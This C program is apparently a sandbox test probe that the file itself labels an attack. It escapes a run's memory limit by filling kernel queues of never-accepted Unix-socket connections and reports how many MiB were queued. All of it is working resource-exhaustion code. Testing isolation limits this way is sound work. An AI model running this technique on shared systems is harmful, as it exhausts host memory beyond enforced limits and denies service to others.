// Attack: kernel memory outside the run's memory limit. Connections a listener never accepts
// hold what their clients wrote in their queues, and need no descriptor once each client is
// closed: with a backlog of thousands, the open-files limit bounds nothing. The program queues
// argv[1] MiB this way (stream sockets, each client writing until its send buffer is full),
// keeping the listener, and prints "queued N MiB" with what the kernel took before refusing
// (a connect refused once the backlog is full, or a write the memory limit refuses), then
// exits 0. More than the run's memory limit queued is memory the kernel did not charge to it.
#define _GNU_SOURCE
#include <errno.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

int main(int argc, char** argv) {
  if (argc < 2) return 2;
  const long long wanted = atoll(argv[1]) << 20;
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  memcpy(address.sun_path, "\0unaccepted", 11);
  const socklen_t length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 11);
  const int listener = socket(AF_UNIX, SOCK_STREAM, 0);
  if (listener < 0 || bind(listener, (struct sockaddr*)&address, length) != 0 ||
      listen(listener, 1 << 16) != 0)
    return 3;
  static char chunk[1 << 16];
  memset(chunk, 'q', sizeof chunk);
  long long queued = 0;
  while (queued < wanted) {
    const int client = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (client < 0) break;
    if (connect(client, (struct sockaddr*)&address, length) != 0) {
      close(client);
      break;
    }
    for (;;) {
      const ssize_t n = send(client, chunk, sizeof chunk, MSG_DONTWAIT);
      if (n <= 0) break;
      queued += n;
    }
    close(client);
  }
  printf("queued %lld MiB\n", queued >> 20);
  fflush(stdout);
  return 0;
}
